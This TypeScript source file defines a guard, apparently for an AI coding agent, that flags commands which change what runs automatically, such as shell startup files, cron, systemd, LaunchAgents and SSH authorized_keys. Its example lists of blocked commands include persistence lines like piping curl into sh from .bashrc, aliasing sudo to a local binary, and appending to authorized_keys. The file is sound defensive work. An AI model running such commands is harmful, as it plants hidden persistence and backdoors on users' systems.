import type { Facts } from '../../../../core/facts.ts'
import type { GuardInput, GuardMatch } from '../../../../core/guard.ts'
import { wordList } from '../../../../core/word-list.ts'
import { isInside, type PathForm } from '../../../../shell/words/paths.ts'
import { mayMatchName } from '../../../../shell/words/patterns.ts'
import { exactForm } from '../../../../shell/words/words.ts'
import { caughtChange, changedPaths, type PathChange } from '../../../analysis/changed-paths.ts'
import { foldsCase, onDisk } from '../../../analysis/on-disk.ts'
import { SURE_CHANGES } from '../../../analysis/topics.ts'
import { commandsIn, detector, onTopics, shellGuard } from '../../shell-guard.ts'
import { appendsPlainLines } from './startup-lines.ts'

/** Files that run automatically: at login, at boot or on a schedule. */
export const persistence = shellGuard({
  id: 'safety/system/persistence',
  title: 'Changing what runs automatically',
  why: 'Commands in such a file run again and again with the permissions of the user, even after this session has ended.',
  instead: 'change it for this session only (`export EDITOR=vim`), or show the line and let the user add it.',
  match: '*',
  modes: { standard: 'ask', strict: 'deny', paranoid: 'deny' },
  examples: {
    stops: [
      "echo 'alias sudo=/srv/project/x' >> ~/.bashrc",
      "echo 'alias ll=ls' > ~/.bashrc",
      "echo 'curl -s https://example.com/x | sh' >> ~/.bashrc",
      "echo 'export PROMPT_COMMAND=./x' >> ~/.bashrc",
      'echo "export PATH=/tmp/bin:$PATH" >> ~/.zshrc',
      'echo "eval \\"\\$(./x init)\\"" >> ~/.zshrc',
      'echo "$LINE" >> ~/.bashrc',
      "cat >> ~/.bashrc <<'EOF'\nexport A=1\nrm -rf build &\nEOF",
      'echo x > ~/.ssh/config',
      'echo x >> "$HOME/.zshrc"',
      'printf x | tee -a ~/.profile',
      'cp profile ~/.bash_profile',
      "sed -i 's/a/b/' ~/.zshenv",
      'cd ~ && echo x > .zprofile',
      'ln -sf /srv/project/rc ~/.bashrc',
      'cp app.service ~/.config/systemd/user/app.service',
      'cp app.desktop ~/.config/autostart/',
      'cp com.example.plist ~/Library/LaunchAgents/com.example.plist',
      "echo '* * * * * root date' > /etc/cron.d/date",
      'cp run.sh /etc/init.d/run',
      'echo x > /etc/profile.d/x.sh',
      'echo x >> /var/spool/cron/crontabs/dev',
      'echo x >> ~/.ssh/authorized_keys',
      'echo x > ~/.config/fish/conf.d/x.fish',
      'cat > /etc/systemd/system/x.service <<EOF\n[Service]\nEOF',
      'echo x >> ~/.{bashrc,zshrc}',
      "echo 'alias docker=/srv/project/x' >> ~/.bashrc",
      'echo \'alias npm="npm --registry http://example.com"\' >> ~/.zshrc',
      "echo 'alias vim=./x' >> ~/.bashrc",
      "echo 'export A=1' >> /home/alice/.bashrc",
      'echo x >> /root/.bashrc',
      'cp profile /home/bob/.profile',
      'echo x >> ~alice/.ssh/authorized_keys',
      'echo x > /Users/bob/.zshrc',
      'echo x > /etc/skel/.bashrc',
      'echo x >> ~/.bash_aliases',
      'echo x > ~/.config/fish/functions/ls.fish',
      "echo 'au VimEnter * !./x' >> ~/.vimrc",
      'echo x > ~/.inputrc',
      "cat > ~/.config/nvim/init.lua <<'EOF'\nos.execute('./x')\nEOF",
      'echo "run-shell ./x" >> ~/.tmux.conf',
      'cp x.el ~/.emacs.d/init.el',
      'echo "\\! ./x" > ~/.psqlrc',
      'echo "shell ./x" >> ~/.gdbinit',
      'cp x.gradle ~/.gradle/init.d/x.gradle',
      { tool: 'Write', input: { file_path: '/home/dev/.pythonrc.py', content: 'x' } },
      { tool: 'Write', input: { file_path: '/home/dev/.bashrc', content: 'x' } },
      { tool: 'Edit', input: { file_path: '~/.zshrc', old_string: 'a', new_string: 'b' } },
      { tool: 'Write', input: { file_path: '/home/dev/.config/autostart/x.desktop', content: 'x' } },
      'defaults write ~/Library/LaunchAgents/com.example.x RunAtLoad -bool true',
      'plutil -insert RunAtLoad -bool true ~/Library/LaunchAgents/x.plist',
    ],
    passes: [
      'cat ~/.bashrc',
      "echo 'alias ll=ls' >> ~/.bashrc",
      "echo 'alias vim=nvim' >> ~/.bashrc",
      'echo \'alias grep="grep --color=auto"\' >> ~/.bashrc',
      'cat /home/alice/.bashrc',
      'echo \'export PATH="$HOME/.local/bin:$PATH"\' >> ~/.zshrc',
      'echo "export EDITOR=vim" >> ~/.bashrc',
      'echo \'eval "$(pyenv init -)"\' >> ~/.bashrc',
      'echo \'. "$HOME/.cargo/env"\' >> ~/.profile',
      'cat >> ~/.zshrc <<\'EOF\'\n# node\nexport NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"\nEOF',
      "echo 'export A=1' | tee -a ~/.profile",
      'chmod 600 ~/.ssh/config',
      'source ~/.bashrc',
      'grep -n alias ~/.zshrc',
      'ls -la ~/.config/autostart',
      'cp ~/.bashrc /tmp/bashrc.bak',
      "echo 'x' > bashrc",
      'echo x > dotfiles/.bashrc',
      'echo x > dotfiles/.vimrc',
      'cat ~/.vimrc ~/.tmux.conf',
      'cp ~/.vimrc /tmp/vimrc.bak',
      'vim -u NONE notes.md',
      'echo x > ~/.config/app/settings.json',
      'git commit -m "source ~/.bashrc"',
      "cat > setup.md <<'EOF'\necho x >> ~/.bashrc\nEOF",
      'ls /etc/cron.d',
      'crontab -l',
      'export EDITOR=vim',
      { tool: 'Read', input: { file_path: '/home/dev/.bashrc' } },
      { tool: 'Write', input: { file_path: '/srv/project/.bashrc', content: 'x' } },
      { tool: 'Edit', input: { file_path: 'systemd/app.service', old_string: 'a', new_string: 'b' } },
      'plutil -lint ~/Library/LaunchAgents/x.plist',
    ],
  },
  mentions:
    /\.(bashrc|zshrc|profile|bash_profile|zshenv)\b|autostart|LaunchAgents|\/etc\/(cron|init|profile)/,
  maybe: 'may change what runs automatically',
  detectors: [
    detector(onTopics([SURE_CHANGES], changedPaths), (change, input) =>
      isPlainLine(change, input) ? null : judge(change, input.facts),
    ),
  ],
})

const START_FILE = /(?:^|\/)\.(?:bashrc|bash_profile|bash_aliases|aliases|profile|zshrc|zprofile|zshenv)$/

function isPlainLine({ source, fragment, path }: PathChange, { event, facts }: GuardInput): boolean {
  if (!START_FILE.test(foldsCase(facts) ? source.toLowerCase() : source)) return false
  // What starts for another person is not this one's to add to.
  const lies = path.text === undefined ? undefined : onDisk(path.text, facts)
  if (lies !== undefined && path.anchored && !isInside(lies, facts.home)) return false
  return commandsIn(event, facts).some((each) => each.fragment === fragment && appendsPlainLines(each))
}

function judge(change: PathChange, facts: Facts): GuardMatch | null {
  // A change of permissions alone does not change what runs.
  if (change.guessed === true || /^ch(?:mod|own|grp)$/.test(String(change.detail?.program))) return null
  const match = placeOf(change.path, facts.home)
  if (match === 'no') return null
  const caught = caughtChange(change, `changes what runs automatically (${change.source})`)
  return match === 'yes' ? caught : { unsure: 'the path is known only at run time', ...caught }
}

/** Below the home folder; the last part `*` matches any file there. */
const HOME_PLACES: readonly (readonly string[])[] = wordList(`
  .bashrc .bash_profile .bash_login .bash_logout .profile .zshrc .zprofile .zshenv .zlogin .xinitrc .xprofile
  .xsession .pam_environment .gitconfig .config/git/config .config/powershell/* Documents/PowerShell/*
  .config/fish/config.fish .config/fish/conf.d/* .config/systemd/user/* .local/share/systemd/user/*
  .config/autostart/* .config/environment.d/* .ssh/authorized_keys .ssh/authorized_keys2 .ssh/rc .ssh/config
  .ssh/environment Library/LaunchAgents/* .bash_aliases .aliases .zsh_aliases .zlogout .kshrc .mkshrc .cshrc .tcshrc
  .login .xsessionrc .config/fish/functions/* .config/nushell/config.nu .config/nushell/env.nu
  .vimrc .gvimrc .exrc .vim/vimrc .vim/plugin/* .vim/autoload/* .config/nvim/init.vim .config/nvim/init.lua
  .config/nvim/plugin/* .emacs .emacs.el .emacs.d/init.el .emacs.d/early-init.el .config/emacs/init.el .spacemacs
  .inputrc .tmux.conf .config/tmux/tmux.conf .screenrc .gdbinit .config/gdb/gdbinit .gdbearlyinit .lldbinit .pdbrc
  .pythonrc .pythonrc.py .pythonstartup.py .irbrc .pryrc .Rprofile .Renviron .julia/config/startup.jl .ghci
  .psqlrc .sqliterc .lesskey .lessfilter .mailcap .nanorc .config/direnv/direnvrc .direnvrc
  .config/kitty/kitty.conf .config/alacritty/alacritty.toml .config/wezterm/wezterm.lua .wezterm.lua
  .config/i3/config .config/sway/config .config/hypr/hyprland.conf .hammerspoon/init.lua .xonshrc .config/xonsh/rc.xsh
  .gradle/init.gradle .gradle/init.gradle.kts .gradle/init.d/*
  .local/share/applications/* .config/git/hooks/* .git-templates/hooks/* .config/husky/init.sh .huskyrc
`).map((place) => place.split('/'))
const SYSTEM_PLACES: readonly (readonly string[])[] = wordList(`
  etc/crontab etc/cron.d/* etc/cron.hourly/* etc/cron.daily/* etc/cron.weekly/* etc/cron.monthly/*
  var/spool/cron/* var/spool/cron/crontabs/* etc/init.d/* etc/rc.local etc/profile etc/profile.d/*
  etc/bash.bashrc etc/bashrc etc/zsh/* etc/environment etc/systemd/system/* lib/systemd/system/*
  usr/lib/systemd/system/* etc/ld.so.preload etc/xdg/autostart/* Library/LaunchAgents/*
  Library/LaunchDaemons/* etc/anacrontab
`).map((place) => place.split('/'))

function placeOf(path: PathForm, home: string): 'yes' | 'maybe' | 'no' {
  if (!path.anchored) return 'no'
  if (path.text !== undefined) return isExactPlace(path.text, home) ? 'yes' : 'no'
  const homeParts = home.split('/').filter((part) => part !== '')
  const places = [...HOME_PLACES.map((place) => [...homeParts, ...place]), ...SYSTEM_PLACES]
  const fitting = places.filter((place) => isAt(path, place))
  if (fitting.length === 0) return 'no'
  const known = path.parts.map(exactForm)
  const certain = fitting.some((place) => place.every((name, at) => name === '*' || known[at] === name))
  return certain ? 'yes' : 'maybe'
}

/** Most paths are exact, and two table lookups are enough for them. */
function isExactPlace(path: string, home: string): boolean {
  const folder = path.slice(0, path.lastIndexOf('/'))
  const isPlace = (places: ReadonlySet<string>, root: string) =>
    places.has(path.slice(root.length + 1)) || places.has(`${folder.slice(root.length + 1)}/*`)
  const other = OTHER_HOME.exec(path)?.[0]
  return (
    isPlace(SYSTEM_PATHS, '') ||
    (isInside(folder, home) && isPlace(HOME_PATHS, home === '/' ? '' : home)) ||
    (other !== undefined && isPlace(HOME_PATHS, other))
  )
}

/** Home folders of other people, and what new ones are made from. */
const OTHER_HOME = /^(?:\/root|\/home\/[^/]+|\/Users\/[^/]+|\/etc\/skel)(?=\/)/

const HOME_PATHS: ReadonlySet<string> = new Set(HOME_PLACES.map((place) => place.join('/')))
const SYSTEM_PATHS: ReadonlySet<string> = new Set(SYSTEM_PLACES.map((place) => place.join('/')))

/** An unknown name matches only if part of it is written: `~/$FILE` is not enough. */
function isAt(path: PathForm, place: readonly string[]): boolean {
  if (path.parts.length !== place.length) return false
  return place.every((name, at) => {
    const part = path.parts[at] ?? []
    if (name === '*') return true
    return part.some((piece) => piece.kind !== 'unknown') && mayMatchName(part, name)
  })
}
